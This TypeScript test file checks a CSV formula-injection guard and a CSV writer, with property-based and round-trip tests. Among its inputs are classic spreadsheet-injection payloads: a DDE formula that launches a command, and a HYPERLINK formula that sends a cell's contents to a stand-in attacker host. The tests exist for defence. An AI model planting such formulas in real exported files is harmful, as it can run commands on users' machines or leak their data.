import { PassThrough } from 'node:stream';
import { text as readAll } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CellValue, Column } from '../../src/domain/column.js';
import { CsvLineEncoder } from '../../src/render/csv/csv-line-encoder.js';
import { csvStringifyOptions } from '../../src/render/csv/csv-stringify-options.js';
import { CsvTableWriter } from '../../src/render/csv/csv-table-writer.js';
import { FORMULA_TRIGGERS, guardFormula, startsLikeFormula } from '../../src/render/formula-guard.js';

const TRIGGERS = Object.keys(FORMULA_TRIGGERS);

describe('guardFormula', () => {
  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))('prefixes a text starting with %s', (_name, c) => {
    expect(guardFormula(`${c}SUM(A1:A9)`)).toBe(`'${c}SUM(A1:A9)`);
    expect(guardFormula(c)).toBe(`'${c}`);
    expect(startsLikeFormula(c)).toBe(true);
  });

  it.each(['', 'Ivan', '12', ' =1+2', "'=1+2", 'a=b', '😀=', 'Ж', '#REF!', '(1)', '%', '\n=1'])(
    'leaves %j alone',
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  it('guards the classic payloads', () => {
    expect(guardFormula("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(guardFormula("@SUM(1+9)*cmd|' /C calc'!A0")).toMatch(/^'@/);
    expect(guardFormula('=HYPERLINK("http://evil.invalid?"&A1,"Click")')).toMatch(/^'=/);
    expect(guardFormula('\uFF1D1+1')).toBe("'\uFF1D1+1");
  });

  it("equals csv-stringify's escape_formulas on text cells (NUL aside, which we guard in addition)", () => {
    const encoder = new CsvLineEncoder(',');
    const options = { ...csvStringifyOptions(['a'], { delimiter: ',', bom: false }), header: false };
    const dangerous = fc.constantFrom(...TRIGGERS, 'a', '"', ',', '\n', "'", ' ');
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: dangerous, maxLength: 6 }), fc.string({ unit: 'grapheme', maxLength: 8 })),
        (text) => {
          fc.pre(!text.startsWith('\0'));
          const ours = encoder.line([guardFormula(text)]);
          expect(ours).toBe(stringify([[text]], { ...options, escape_formulas: true }));
        },
      ),
      { numRuns: 2000 },
    );
  });
});

interface Row {
  readonly comment: string | null;
  readonly lon: number;
  readonly offset: number;
  readonly delta: number;
}

const COLUMNS: readonly Column<Row>[] = [
  { name: 'comment', header: 'Comment', kind: 'text', width: 20, description: '', value: (r) => r.comment },
  { name: 'lon', header: 'Longitude', kind: 'number', width: 9, description: '', value: (r) => r.lon },
  { name: 'offset', header: 'Offset', kind: 'offset', width: 6, description: '', value: (r) => r.offset },
  {
    name: 'delta',
    header: 'Delta',
    kind: 'decimal',
    places: 2,
    width: 6,
    description: '',
    value: (r) => r.delta,
  },
];

async function csvOf(rows: readonly Row[]): Promise<string[][]> {
  const sink = new PassThrough();
  const read = readAll(sink);
  const writer = new CsvTableWriter(COLUMNS, sink, { delimiter: ';', bom: true });
  for (const row of rows) await writer.write(row);
  await writer.end();
  return parse(await read, { bom: true, delimiter: ';' }) as string[][];
}

describe('the formula guard in a written CSV file', () => {
  it('is there when an independent parser reads the file back, and numbers keep their sign', async () => {
    const rows: Row[] = TRIGGERS.map((c, i) => ({
      comment: `${c}1+2;"x"`,
      lon: -12 - i,
      offset: -300,
      delta: -1.5,
    }));
    const cells = await csvOf(rows);
    expect(cells[0]).toEqual(['comment', 'lon', 'offset', 'delta']);
    TRIGGERS.forEach((c, i) => {
      expect(cells[i + 1]).toEqual([`'${c}1+2;"x"`, String(-12 - i), '-05:00', '-1.50']);
    });
  });

  it('leaves harmless text, empty and null cells as they were', async () => {
    const value = (comment: CellValue): Row => ({
      comment: comment as string | null,
      lon: 30.5,
      offset: 180,
      delta: 0,
    });
    const cells = await csvOf([value('Left early'), value(''), value(null), value("'quoted already")]);
    expect(cells.slice(1).map((r) => r[0])).toEqual(['Left early', '', '', "'quoted already"]);
    expect(cells[1]).toEqual(['Left early', '30.5', '+03:00', '0.00']);
  });
});
